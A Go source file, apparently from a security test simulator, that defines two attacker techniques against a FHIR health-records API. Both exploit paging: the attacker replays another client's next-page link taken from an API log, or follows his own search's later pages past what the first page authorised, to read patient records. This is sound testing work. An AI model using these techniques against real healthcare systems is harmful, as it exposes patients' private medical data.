package attacker

import (
	"context"
	"encoding/json"
	"errors"

	"thiefbox/sim/event"
	"thiefbox/sim/fapi"
)

const beyondPages = beyondObjects + " A link to a further page is a credential of its own wherever a server asks at the first page alone."

var _ = register("F-15", Technique{
	Variant: "of-another",
	Title:   "The next page of somebody else's search",
	Story: "A supplier has gone through its patients page by page, and the links to the further pages stand in the API's log. The thief reads the " +
		"log and goes on where the supplier was, with a token and proofs of his own.",
	Reads:  []string{"OWASP API1:2023", "FHIR R4 http, Paging"},
	Needs:  []event.Vantage{event.APILog},
	Has:    []event.Asset{event.OwnClient},
	Scene:  Scene{Listed: true},
	Beyond: beyondPages,
	Run: func(ctx context.Context, g Ground) error {
		link, err := overheardPage(g)
		if err != nil {
			return err
		}
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.read(ctx, link, t)
		return err
	},
})

var _ = register("F-15/own", Technique{
	Variant: "own",
	Title:   "The second page of one's own search",
	Story: "The thief is a doctor and searches for diagnoses, a few at a time. What he may find is asked at the first page. He follows the links " +
		"that he is given, as every client does, and what comes then is whatever comes next.",
	Reads:    []string{"OWASP API1:2023", "FHIR R4 http, Paging"},
	Has:      []event.Asset{event.OwnClient},
	Beyond:   beyondPages,
	Evidence: "Further pages of one search with more patients than its first page has. Each request is in order.",
	Run: func(ctx context.Context, g Ground) error {
		a, t, err := ownToken(ctx, g)
		if err != nil {
			return err
		}
		_, err = a.pages(ctx, g.Target().FHIRBase+"/Condition?_count=5&_total=none", t)
		return err
	},
})

// overheardPage is the last link to a further page that somebody followed.
func overheardPage(g Ground) (string, error) {
	for _, m := range newestFirst(g.Overheard(event.APILog)) {
		if queryOf(m.URL).Get("_page") != "" {
			return m.URL, nil
		}
	}
	return "", errors.New("nobody's further page was overheard in the API's log")
}

// mostPages is how many pages he goes through: an API whose links lead in a circle is not to keep him for ever.
const mostPages = 200

// pages fetches all pages of a search, as far as he is let.
func (a *app) pages(ctx context.Context, address string, t fapi.TokenResponse) (last answer, err error) {
	for range mostPages {
		if last, err = a.read(ctx, address, t); err != nil || !last.ok() {
			return last, err
		}
		if address = nextLink(last.body); address == "" {
			break
		}
	}
	return last, nil
}

// nextLink is where a bundle says that it goes on; empty on its last page, and of what is no bundle.
func nextLink(bundle []byte) string {
	var b struct {
		Link []struct{ Relation, URL string }
	}
	if json.Unmarshal(bundle, &b) != nil {
		return ""
	}
	for _, l := range b.Link {
		if l.Relation == "next" {
			return l.URL
		}
	}
	return ""
}
